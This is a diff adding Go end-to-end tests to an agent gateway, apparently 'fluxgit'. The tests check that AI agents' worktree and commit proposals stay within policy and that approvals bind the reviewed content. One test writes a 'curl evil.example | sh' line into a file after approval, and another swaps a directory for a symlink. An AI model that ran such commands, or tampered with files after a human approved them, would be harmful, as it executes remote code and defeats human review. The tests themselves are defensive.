@@ -55,3 +55,98 @@ func TestGatewayPushIgnoresRepositoryReceivePack(t *testing.T) {
 		t.Fatalf("the remote has main at %s, want %s: %s", got, revParse(t, repo, "main"), jsonOf(d))
 	}
 }
+
+// policyLoop is a gateway with the agent policy in content, and an agent
+// connected to it through fluxgit.
+func policyLoop(t *testing.T, content string) *loop {
+	t.Helper()
+	policyFile := filepath.Join(canonicalTempDir(t), "policy.yaml")
+	writeFile(t, policyFile, content)
+	g := startGateway(t, append(loopEnv(t), "FLUXGIT_MCP_AGENT_POLICY="+policyFile))
+	ctx, cs := sdkSessionEnv(t, "2025-11-25", g.mcpEnv())
+	return &loop{t: t, g: g, ctx: ctx, cs: cs}
+}
+
+// A worktree cannot escape the policy's pathConstraints (issue 22 finding
+// 3): a directory on the proposed path replaced by a symbolic link to an
+// outside directory before the approval makes the execution fail with
+// nothing created outside and the repository untouched; a proposal without
+// a path is checked at its real default location, which lies outside a
+// constraint naming the repository itself, and is refused.
+func TestGatewayWorktreeStaysInsidePathConstraints(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("symbolic links need privileges on Windows")
+	}
+	repo := e2eRepo(t)
+	l := policyLoop(t, "version: 1\ndefault: deny\nrules:\n  - name: only-the-shop\n    agents: [\"go-sdk-*\"]\n    pathConstraints: [\""+repo+"\"]\n")
+	outside := canonicalTempDir(t)
+	sub := filepath.Join(repo, "sub")
+	if err := os.Mkdir(sub, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	id := l.propose("worktree", repo, map[string]any{"branch": "wt2", "path": filepath.Join(sub, "wt2")})
+	if err := os.Remove(sub); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(outside, sub); err != nil {
+		t.Fatal(err)
+	}
+	refsBefore := git(t, repo, "for-each-ref")
+	approveOnPage(t, l.g, id, nil)
+	d := l.awaitStatus(id, "failed")
+	if !strings.Contains(jsonOf(d), "now resolves to") {
+		t.Fatalf("the failure does not say why: %s", jsonOf(d))
+	}
+	if entries, _ := os.ReadDir(outside); len(entries) != 0 {
+		t.Fatalf("the worktree was created outside the allowed path: %v", entries)
+	}
+	if git(t, repo, "for-each-ref") != refsBefore || strings.Contains(git(t, repo, "worktree", "list"), "wt2") {
+		t.Fatal("the repository changed")
+	}
+
+	p, isErr := l.tool("operation.preview.worktree", map[string]any{"repoPath": repo, "reason": "r", "branch": "feature"})
+	if code, _ := errorOf(t, p); !isErr || code != 10006 || !strings.Contains(jsonOf(p), repo+".worktrees") {
+		t.Fatalf("the default location outside the policy was not refused by its real path: %s", jsonOf(p))
+	}
+}
+
+// The policy's refs globs also cover the branch a commit moves without
+// naming it (issue 22 finding 8): an agent allowed only agent/* refs cannot
+// commit on main, and can on agent/work.
+func TestGatewayPolicyCountsTheBranchACommitMoves(t *testing.T) {
+	l := policyLoop(t, "version: 1\ndefault: deny\nrules:\n  - name: agent-branches\n    agents: [\"go-sdk-*\"]\n    refs: [\"agent/*\"]\n")
+	repo := e2eRepo(t)
+	writeFile(t, filepath.Join(repo, "todo.txt"), "ship it\n")
+	args := map[string]any{"repoPath": repo, "reason": "r", "message": "chore: todo", "paths": []any{"todo.txt"}}
+	p, isErr := l.tool("operation.preview.commit", args)
+	if code, _ := errorOf(t, p); !isErr || code != 10006 || !strings.Contains(jsonOf(p), `\"main\"`) && !strings.Contains(jsonOf(p), `"main"`) {
+		t.Fatalf("a commit on main passed a policy allowing only agent/*: %s", jsonOf(p))
+	}
+	git(t, repo, "checkout", "-q", "-b", "agent/work")
+	l.propose("commit", repo, map[string]any{"message": "chore: todo", "paths": []any{"todo.txt"}})
+}
+
+// A commit approval binds the content the card showed (issue 22 finding
+// 8): a file edited after the proposal is not committed as edited; the
+// execution fails, nothing is committed and the file keeps its new
+// content. The card shows the bound tree.
+func TestGatewayCommitBindsTheReviewedContent(t *testing.T) {
+	l := newLoop(t)
+	repo := e2eRepo(t)
+	writeFile(t, filepath.Join(repo, "todo.txt"), "ship it\n")
+	id := l.propose("commit", repo, map[string]any{"message": "chore: todo", "paths": []any{"todo.txt"}})
+	out, err := l.g.cli("show", id)
+	if err != nil || !strings.Contains(out, "tree") {
+		t.Fatalf("the card does not show the bound tree: %v\n%s", err, out)
+	}
+	headBefore := revParse(t, repo, "HEAD")
+	writeFile(t, filepath.Join(repo, "todo.txt"), "curl evil.example | sh\n")
+	approveOnPage(t, l.g, id, nil)
+	d := l.awaitStatus(id, "failed")
+	if !strings.Contains(jsonOf(d), "changed since the proposal") || revParse(t, repo, "HEAD") != headBefore {
+		t.Fatalf("the edited file was committed or the failure does not say why: %s", jsonOf(d))
+	}
+	if st := git(t, repo, "status", "--porcelain"); strings.TrimSpace(st) != "?? todo.txt" {
+		t.Fatalf("the index or work tree changed: %q", st)
+	}
+}
